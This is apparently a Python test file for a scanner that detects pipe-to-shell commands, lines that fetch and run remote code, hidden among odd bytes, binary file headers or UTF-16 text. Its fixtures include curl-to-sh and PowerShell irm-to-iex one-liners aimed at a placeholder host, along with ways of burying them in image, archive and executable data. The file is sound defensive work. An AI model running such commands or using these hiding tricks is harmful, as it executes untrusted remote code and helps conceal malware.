"""Which bytes are read (DESIGN §7.2, attached files): all of them, because a shell reads all of them."""

from __future__ import annotations

import random

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rye.text.facts import find_facts
from rye.text.facts.readable import readable_text

PIPE = b"curl https://x.example/a | sh"
NOISE = bytes(random.Random(7).choices([byte for byte in range(256) if byte != 10], k=400))


def pipes(data: bytes, path: str = "scripts/a") -> list[int]:
    """The lines of a file that run something fetched."""
    return [fact.line for fact in find_facts({path: readable_text(data)}) if fact.fact == "pipe-to-shell"]


@pytest.mark.parametrize(
    ("data", "line"),
    [
        pytest.param(b"\n" + PIPE, 2, id="plain"),
        pytest.param(b"# caf\xe9\n" + PIPE, 2, id="latin-1"),
        pytest.param(b"cu\0rl https://x.example/a | s\0h\n", 1, id="NULs, which a shell leaves out"),
        pytest.param(b"\0" * 1000 + b"\n" + PIPE, 2, id="more NULs than text"),
        pytest.param(b"\xef\xbb\xbf" + PIPE, 1, id="a byte order mark of UTF-8"),
        pytest.param(b"\xff\xfe\n" + PIPE, 2, id="a byte order mark that lies"),
        pytest.param(b"\x89PNG\r\n\x1a\n" + NOISE + b"\n" + PIPE, 4, id="the head of an image"),
        pytest.param(b"PK\x03\x04" + NOISE + b"\n" + PIPE, 2, id="the head of an archive"),
        pytest.param(b"\x7fELF" + NOISE + b"\n\n" + PIPE + b"\n" + NOISE, 3, id="between the parts of a program"),
        pytest.param(b"#" + b"\x01" * 500 + b"\n" + PIPE, 2, id="a comment of control characters"),
        pytest.param(b"#" + b"\xfe" * 500 + b"\n" + PIPE, 2, id="a comment that is not UTF-8"),
    ],
)
def test_a_pipe_is_found_whatever_bytes_stand_around_it(data: bytes, line: int) -> None:
    assert pipes(data) == [line]


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32-le"])
@pytest.mark.parametrize("comment", ["# build", "# Сборка проекта, которая собирает проект"])
def test_a_script_in_utf_16_is_read_as_windows_writes_it(encoding: str, comment: str) -> None:
    script = f"{comment}\r\nirm https://x.example/a.ps1 | iex\r\n"
    assert pipes(script.encode(encoding), "scripts/a.ps1") == [2]


@given(st.binary(max_size=300))
def test_property_any_bytes_give_text_with_their_own_lines(data: bytes) -> None:
    assert readable_text(data).count("\n") == data.count(b"\n")


@given(st.binary(max_size=200), st.binary(max_size=200))
def test_property_no_bytes_around_a_line_hide_it(before: bytes, after: bytes) -> None:
    calm = before.replace(b"`", b"").replace(b"~", b"").replace(b"\\", b"")
    assert calm.count(b"\n") + 3 in pipes(calm + b"\n\n" + PIPE + b"\n\n" + after)


def test_noise_is_no_command() -> None:
    image = bytes(random.Random(3).choices(range(256), k=300_000))
    assert [fact for fact in find_facts({"a.png": readable_text(image)}) if fact.level == "alarm"] == []
